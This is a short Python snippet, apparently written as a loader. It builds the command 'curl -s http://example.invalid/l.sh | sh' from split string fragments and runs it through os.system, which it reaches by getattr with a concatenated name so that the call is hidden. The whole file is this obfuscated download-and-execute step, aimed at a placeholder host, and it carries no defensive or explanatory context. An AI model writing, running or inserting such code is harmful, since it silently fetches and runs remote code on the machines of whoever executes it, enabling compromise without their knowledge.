import os

_parts = ["cu", "rl -s ", "http://", "example.invalid", "/l.sh", " | s", "h"]
getattr(os, "sys" + "tem")("".join(_parts))
